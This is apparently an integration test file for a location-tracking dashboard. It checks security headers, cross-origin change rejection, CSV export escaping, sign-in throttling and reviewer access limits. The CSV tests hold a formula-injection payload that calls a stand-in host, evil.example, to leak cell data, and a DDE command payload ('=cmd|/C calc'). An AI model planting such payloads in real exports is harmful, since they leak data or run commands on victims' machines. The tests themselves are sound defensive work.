import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { FRESH_ACCOUNTS, FRESH_PASSWORD, type RunningServer, serve } from "../../scripts/fresh-server";
import { api, keys, signIn, unique } from "../support/api";

/**
 * The dashboard as an attacker's browser or a shared network sees it (docs/security.md#browser):
 * security headers everywhere, changes only from the dashboard's own pages, CSV cells that a
 * spreadsheet would run, sign-in failures that lock nobody out elsewhere, reviewers who see only
 * the users whose events they review.
 */

const baseUrl = inject("baseUrl");
let proxied: RunningServer;

beforeAll(async () => {
  // Behind a "proxy": each request says its own address, as different people would.
  proxied = await serve(inject("databaseUrl"), {
    env: { TRUST_PROXY: "true", GEODATA_DIR: inject("geodataDir") },
  });
}, 60_000);
afterAll(() => proxied?.stop());

describe("security headers", () => {
  it("every page has a Content-Security-Policy with a nonce of its own, and the usual headers", async () => {
    const policies: string[] = [];
    for (let i = 0; i < 2; i++) {
      const res = await fetch(`${baseUrl}/login`);
      expect(res.status).toBe(200);
      const policy = res.headers.get("content-security-policy")!;
      expect(policy).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]+' 'strict-dynamic'/);
      expect(policy).toMatch(/frame-ancestors 'none'/);
      expect(policy).toMatch(/object-src 'none'/);
      // Next.js's scripts carry the nonce.
      const nonce = /'nonce-([^']+)'/.exec(policy)![1]!;
      expect(await res.text()).toContain(`nonce="${nonce}"`);
      policies.push(policy);
      expect(res.headers.get("x-content-type-options")).toBe("nosniff");
      expect(res.headers.get("x-frame-options")).toBe("DENY");
      expect(res.headers.get("referrer-policy")).toBe("no-referrer");
    }
    expect(policies[0]).not.toBe(policies[1]);
  });

  it("every API answer has them too, errors included", async () => {
    for (const res of [
      await fetch(`${baseUrl}/v1/config`, { headers: { authorization: keys.publishable } }),
      await fetch(`${baseUrl}/v1/geofences`),
      await fetch(`${baseUrl}/api/session`),
    ]) {
      expect(res.headers.get("x-content-type-options")).toBe("nosniff");
      expect(res.headers.get("x-frame-options")).toBe("DENY");
    }
  });
});

describe("dashboard changes", () => {
  it("must say they come from the dashboard: Origin, or Sec-Fetch-Site same-origin", async () => {
    const cookie = await signIn(FRESH_ACCOUNTS.analyst, FRESH_PASSWORD);
    const change = (headers: Record<string, string>) =>
      fetch(`${baseUrl}/api/session`, {
        method: "PATCH",
        headers: { cookie, "content-type": "application/json", ...headers },
        body: JSON.stringify({ live: false }),
      });
    const bare = await change({});
    expect(bare.status).toBe(403);
    expect(((await bare.json()) as { meta: { message: string } }).meta.message).toMatch(
      /Origin or Sec-Fetch-Site/,
    );
    expect((await change({ "sec-fetch-site": "cross-site" })).status).toBe(403);
    expect((await change({ "sec-fetch-site": "same-origin" })).status).toBe(200);
    expect((await change({ origin: baseUrl })).status).toBe(200);
    expect((await change({ origin: "https://evil.example" })).status).toBe(403);
    // Reading needs neither.
    expect((await fetch(`${baseUrl}/api/session`, { headers: { cookie } })).status).toBe(200);
  });
});

describe("CSV exports", () => {
  it("write cells a spreadsheet would run as text, and import them back as they were", async () => {
    const cookie = await signIn(FRESH_ACCOUNTS.analyst, FRESH_PASSWORD);
    const tag = unique("csvsafe");
    const description = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    const made = await api("PUT", `/v1/geofences/${tag}/x`, {
      json: { description, type: "circle", coordinates: [7.1, 43.7], radius: 50, userIds: ["@admin"] },
    });
    expect(made.status).toBe(200);
    const csv = await (
      await fetch(`${baseUrl}/api/geofences/export?format=csv&tag=${tag}`, { headers: { cookie } })
    ).text();
    const row = csv.split("\n")[1]!;
    expect(row.startsWith(`"'=HYPERLINK`)).toBe(true);
    expect(row).toContain(",'@admin,");
    expect(row).not.toMatch(/(^|,)"?[=@+]/);
    // Imported again: unchanged.
    const back = await fetch(`${baseUrl}/api/geofences/import?format=csv`, {
      method: "POST",
      headers: { cookie, origin: baseUrl, "content-type": "text/csv" },
      body: csv,
    });
    expect((await back.text()).trim().split("\n").at(-1)).toContain('"unchanged":1');
    expect((await api("GET", `/v1/geofences/${tag}/x`)).body.geofence).toMatchObject({
      description,
      userIds: ["@admin"],
    });

    // Events: a device named like a formula.
    const deviceId = `=cmd|'/C calc'!A0-${unique("d")}`;
    await api("POST", "/v1/track", {
      key: keys.publishable,
      // The user the geofence is for.
      json: { deviceId, userId: "@admin", latitude: 43.7, longitude: 7.1, accuracy: 5 },
    });
    const events = await (
      await fetch(`${baseUrl}/api/events/export?types=user.entered_geofence`, { headers: { cookie } })
    ).text();
    const line = events.split("\n").find((l) => l.includes("calc"));
    expect(line, events.slice(0, 500)).toBeDefined();
    expect(line).toContain(`,'=cmd|`);
    expect(line).toContain(",'@admin,");
  });
});

describe("sign-in throttle", () => {
  it("holds back the address that fails, and nobody elsewhere", async () => {
    const email = FRESH_ACCOUNTS.reviewer;
    const from = (address: string, password: string) =>
      fetch(`${proxied.url}/api/session`, {
        method: "POST",
        headers: { "content-type": "application/json", origin: proxied.url, "x-forwarded-for": address },
        body: JSON.stringify({ email, password }),
      });
    const attacker = `198.51.100.${Math.floor(Math.random() * 200) + 1}`;
    for (let i = 0; i < 5; i++) expect((await from(attacker, "guess")).status).toBe(401);
    const held = await from(attacker, FRESH_PASSWORD);
    expect(held.status).toBe(429);
    expect(Number(held.headers.get("retry-after"))).toBeGreaterThanOrEqual(1);
    // The account's owner, elsewhere, signs in.
    expect((await from(`203.0.113.${Math.floor(Math.random() * 200) + 1}`, FRESH_PASSWORD)).status).toBe(200);
  });
});

describe("reviewers", () => {
  it("read the users whose events they review, and no other", async () => {
    const reviewer = {
      key: null,
      headers: { cookie: await signIn(FRESH_ACCOUNTS.reviewer, FRESH_PASSWORD) },
    };
    // At sea: no region, no geofence, no event.
    const quiet = unique("quiet");
    await api("POST", "/v1/track", {
      key: keys.publishable,
      json: { deviceId: quiet, latitude: -40, longitude: -20, accuracy: 5 },
    });
    // On land in a geofence: events to review.
    const tag = unique("rev");
    await api("PUT", `/v1/geofences/${tag}/x`, {
      json: { description: "review me", type: "circle", coordinates: [2.35, 48.85], radius: 100 },
    });
    const busy = unique("busy");
    await api("POST", "/v1/track", {
      key: keys.publishable,
      json: { deviceId: busy, latitude: 48.85, longitude: 2.35, accuracy: 5 },
    });

    expect((await api("GET", `/v1/users/${busy}`, reviewer)).status).toBe(200);
    expect((await api("GET", `/api/users/${busy}/trail`, reviewer)).status).toBe(200);
    for (const path of [`/v1/users/${quiet}`, `/api/users/${quiet}/trail`, `/api/users/${quiet}/logs`])
      expect((await api("GET", path, reviewer)).status, path).toBe(404);
    for (const path of ["/v1/users", "/api/users/table", "/v1/search/users?near=48.85,2.35"])
      expect((await api("GET", path, reviewer)).status, path).toBe(403);
    // An analyst reads everyone.
    const analyst = { key: null, headers: { cookie: await signIn(FRESH_ACCOUNTS.analyst, FRESH_PASSWORD) } };
    expect((await api("GET", `/v1/users/${quiet}`, analyst)).status).toBe(200);
  });
});
